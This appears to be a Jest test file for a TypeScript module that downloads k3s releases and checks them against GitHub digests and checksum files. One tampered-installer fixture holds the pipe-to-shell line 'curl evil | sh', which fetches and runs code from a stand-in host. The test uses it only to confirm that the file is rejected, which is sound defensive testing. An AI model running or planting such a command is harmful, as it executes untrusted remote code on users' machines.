import { createHash } from 'node:crypto'
import { copyFile, mkdir, mkdtemp, readFile, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, beforeAll, beforeEach, describe, expect, it } from '@jest/globals'
import {
  checksumOf,
  describeRelease,
  ReleaseError,
  type ReleasePorts,
  releaseSize,
  resolveRelease,
} from '../../src/k3s/release.ts'
import { type ReleaseAsset, RunnerError } from '../../src/runner/index.ts'

const version = 'v1.33.4+k3s1'
const commit = 'c'.repeat(40)
const signal = new AbortController().signal
const raw = `https://raw.githubusercontent.com/k3s-io/k3s/${commit}`
const sha256 = (text: string): string => createHash('sha256').update(text).digest('hex')

let folder = ''
beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), 'release-'))
})
afterAll(async () => {
  await rm(folder, { recursive: true })
})

/** GitHub with one release, and a tool cache. */
class World {
  readonly downloads: string[] = []
  readonly files = new Map<string, string>()
  readonly digests = new Map<string, string | undefined>()
  readonly cache = new Map<string, string>()
  readonly directory: string
  /** What GitHub's side rejects with. */
  releaseFault: Error | undefined
  isCacheWritable = true
  #files = 0

  constructor(directory: string) {
    this.directory = directory
    const [amd64, arm64, installer] = ['program for amd64', 'program for arm64', '#!/bin/sh\n# installer\n']
    this.publish('k3s', amd64)
    this.publish('k3s-arm64', arm64)
    this.publish('sha256sum-amd64.txt', `${sha256('images')}  k3s-airgap-images-amd64.tar\n${sha256(amd64)}  k3s\n`)
    this.publish('sha256sum-arm64.txt', `${sha256(arm64)}  k3s-arm64\n`)
    this.files.set(`${raw}/install.sh`, installer)
    this.files.set(`${raw}/install.sh.sha256sum`, `${sha256(installer)}  install.sh\n`)
  }

  url(name: string): string {
    return `https://downloads.example/${name}`
  }

  publish(name: string, text: string): void {
    this.files.set(this.url(name), text)
    this.digests.set(name, `sha256:${sha256(text)}`)
  }

  get ports(): ReleasePorts {
    return {
      releases: {
        release: async () => {
          if (this.releaseFault) throw this.releaseFault
          const assets: ReleaseAsset[] = [...this.digests].map(([name, digest]) => ({
            name,
            url: this.url(name),
            sizeBytes: this.files.get(this.url(name))?.length ?? 0,
            ...(digest === undefined ? {} : { digest }),
          }))
          return { assets, commit }
        },
      },
      download: async (url) => {
        this.downloads.push(url)
        const text = this.files.get(url)
        if (text === undefined)
          throw new RunnerError('download-failed', `${url} could not be downloaded to the runner`, {
            cause: 'the server answered 404',
            remedy: 'check the version: this file does not exist',
            evidence: ['Unexpected HTTP response: 404'],
          })
        const path = join(this.directory, `download-${this.#files++}`)
        await writeFile(path, text)
        return path
      },
      toolCache: {
        find: (...key) => this.cache.get(key.join(' ')),
        add: async (file, name, ...key) => {
          if (!this.isCacheWritable) throw new Error('EACCES: permission denied')
          const path = join(this.directory, `cached-${this.#files++}-${name}`)
          await copyFile(file, path)
          this.cache.set(key.join(' '), path)
          return path
        },
      },
    }
  }
}

let world: World
let worlds = 0
beforeEach(async () => {
  const directory = join(folder, String(worlds++))
  await mkdir(directory)
  world = new World(directory)
})

async function refusal(architecture = 'amd64'): Promise<ReleaseError> {
  const error = await resolveRelease({ version, architecture }, world.ports, signal).then(
    () => undefined,
    (reason: unknown) => reason,
  )
  expect(error).toBeInstanceOf(ReleaseError)
  const explained = error as ReleaseError
  for (const text of [explained.cause, explained.remedy]) expect(text).not.toBe('')
  return explained
}

describe('a release of k3s', () => {
  it('is described from metadata, before anything is downloaded', async () => {
    const description = await describeRelease({ version, architecture: 'amd64' }, world.ports.releases, signal)
    expect(releaseSize(description)).toBe('program for amd64'.length)
    expect(description.sha256).toBe(sha256('program for amd64'))
    expect(world.downloads).toEqual([])
  })

  it('gives program and installer that both witnesses agree on', async () => {
    const release = await resolveRelease({ version, architecture: 'arm64' }, world.ports, signal)
    expect(release.binary).toMatchObject({ sha256: sha256('program for arm64'), sizeBytes: 17, fromCache: false })
    expect(release.installer).toMatchObject({ text: '#!/bin/sh\n# installer\n', commit })
    expect(release.notes).toEqual([])
    expect(world.downloads).toContain(world.url('k3s-arm64'))
    expect(world.downloads).not.toContain(world.url('k3s'))
  })

  it('is downloaded once and comes from the tool cache afterwards', async () => {
    await resolveRelease({ version, architecture: 'amd64' }, world.ports, signal)
    expect([...world.cache.keys()]).toEqual(['k3s 1.33.4-k3s.1 amd64'])
    world.downloads.length = 0
    const again = await resolveRelease({ version, architecture: 'amd64' }, world.ports, signal)
    expect(again.binary.fromCache).toBe(true)
    expect(world.downloads).not.toContain(world.url('k3s'))
  })

  it('stays whole in this run when another run replaces the copy in the tool cache meanwhile', async () => {
    const release = await resolveRelease({ version, architecture: 'amd64' }, world.ports, signal)
    await rm(world.cache.get('k3s 1.33.4-k3s.1 amd64') ?? '')
    expect(await readFile(release.binary.path, 'utf8')).toBe('program for amd64')
  })

  it('is downloaded again when the tool cache was tampered with, and says so', async () => {
    await resolveRelease({ version, architecture: 'amd64' }, world.ports, signal)
    await writeFile(world.cache.get('k3s 1.33.4-k3s.1 amd64') ?? '', 'something else')
    const again = await resolveRelease({ version, architecture: 'amd64' }, world.ports, signal)
    expect(again.binary).toMatchObject({ fromCache: false, sha256: sha256('program for amd64') })
    expect(again.notes.join()).toContain('the tool cache held another file')
  })

  it('can do without a tool cache', async () => {
    world.isCacheWritable = false
    const release = await resolveRelease({ version, architecture: 'amd64' }, world.ports, signal)
    expect(release.binary.fromCache).toBe(false)
    expect(release.notes.join()).toContain('EACCES')
  })

  it('without a digest on GitHub is checked against the checksum file alone, and says so', async () => {
    world.digests.set('k3s', undefined)
    const release = await resolveRelease({ version, architecture: 'amd64' }, world.ports, signal)
    expect(release.notes.join()).toContain('no digest for k3s')
  })

  it('is refused when checksum file and digest disagree', async () => {
    world.digests.set('k3s', `sha256:${'0'.repeat(64)}`)
    const error = await refusal()
    expect(error.code).toBe('checksum-mismatch')
    expect(error.evidence.join()).toContain(sha256('program for amd64'))
    expect(world.downloads).not.toContain(world.url('k3s'))
  })

  it('is refused when the download is another file', async () => {
    world.files.set(world.url('k3s'), 'program with a back door')
    expect((await refusal()).code).toBe('checksum-mismatch')
    expect(world.cache.size).toBe(0)
  })

  it('is refused when the checksum file was changed after it was uploaded', async () => {
    world.files.set(world.url('sha256sum-amd64.txt'), `${sha256('evil')}  k3s\n`)
    expect((await refusal()).code).toBe('checksum-mismatch')
  })

  it('is refused when the installer is not the one of its commit', async () => {
    world.files.set(`${raw}/install.sh`, '#!/bin/sh\ncurl evil | sh\n')
    const error = await refusal()
    expect(error.code).toBe('checksum-mismatch')
    expect(error.message).toContain('installer')
  })

  it('is refused without a line for the program', async () => {
    world.publish('sha256sum-amd64.txt', `${sha256('x')}  k3s-airgap-images-amd64.tar\n`)
    expect((await refusal()).code).toBe('release-incomplete')
  })

  it('is refused without checksum file, without program, for other architectures', async () => {
    world.digests.delete('sha256sum-amd64.txt')
    expect((await refusal()).message).toContain('sha256sum-amd64.txt')
    world.digests.delete('k3s-arm64')
    expect((await refusal('arm64')).code).toBe('release-incomplete')
    expect((await refusal('riscv64')).code).toBe('architecture-unsupported')
  })

  it('that does not exist is named, with where the others are listed, and running again is not the advice', async () => {
    world.releaseFault = new RunnerError('release-not-found', `release ${version} of k3s-io/k3s does not exist`, {
      cause: 'there is no such release or tag, or the repository is private',
      remedy: 'check the version: it must be spelled exactly as the release is',
      evidence: ['GitHub: 404 Not Found'],
    })
    const error = await refusal()
    expect(error).toMatchObject({
      code: 'release-not-found',
      message: `there is no release ${version} of k3s`,
      evidence: ['GitHub: 404 Not Found'],
    })
    expect(error.cause).toContain(version)
    expect(error.remedy).toContain('https://github.com/k3s-io/k3s/releases')
    expect(error.remedy).not.toMatch(/again/)
  })

  it.each(['rate-limited', 'github-refused', 'github-unreachable'] as const)(
    'that cannot be looked up (%s) keeps what the runner knows of cause and remedy',
    async (code) => {
      const texts = { cause: 'no requests left until noon', remedy: 'give the input github-token', evidence: ['403'] }
      world.releaseFault = new RunnerError(code, 'x', texts)
      expect(await refusal()).toMatchObject({
        code,
        message: `release ${version} of k3s cannot be looked up`,
        ...texts,
      })
    },
  )

  it('that cannot be looked up for a reason that nobody explained is still an error of a release', async () => {
    world.releaseFault = new TypeError('fetch failed')
    expect(await refusal()).toMatchObject({ code: 'download-failed', cause: 'fetch failed' })
  })

  it('that cannot be downloaded says which file', async () => {
    world.files.delete(world.url('k3s'))
    const error = await refusal()
    expect(error).toMatchObject({
      code: 'download-failed',
      message: `k3s ${version} for amd64 cannot be downloaded`,
      cause: 'the server answered 404',
      remedy: 'check the version: this file does not exist',
      evidence: [world.url('k3s'), 'Unexpected HTTP response: 404'],
    })
  })

  it('is left alone when the run is cancelled', async () => {
    const cancel = new AbortController()
    const ports = world.ports
    const download = async (url: string): Promise<string> => {
      cancel.abort(new Error('cancelled by a person'))
      return await ports.download(url, signal)
    }
    await expect(
      resolveRelease({ version, architecture: 'amd64' }, { ...ports, download }, cancel.signal),
    ).rejects.toThrow('cancelled by a person')
  })
})

describe('a checksum file', () => {
  const a = 'a'.repeat(64)
  const b = 'b'.repeat(64)
  it.each([
    [`${a}  k3s\n`, a],
    [`${a} *k3s\r\n`, a],
    [`${a.toUpperCase()}  k3s`, a],
    [`${a}  ./k3s\n`, a],
    [`${b}  k3s-arm64\n${b}  not-k3s\n${b}  dir/k3s\n${a}  k3s\n`, a],
    [`${a}  k3s\n${a}  k3s\n`, a],
    [`${a}  k3s\n${b}  k3s\n`, undefined],
    [`${a}  k3s-arm64\n`, undefined],
    [`abc  k3s\n`, undefined],
    ['<html>404</html>', undefined],
    ['', undefined],
  ])('%j', (text, hash) => {
    expect(checksumOf(text, 'k3s')).toBe(hash)
  })
})
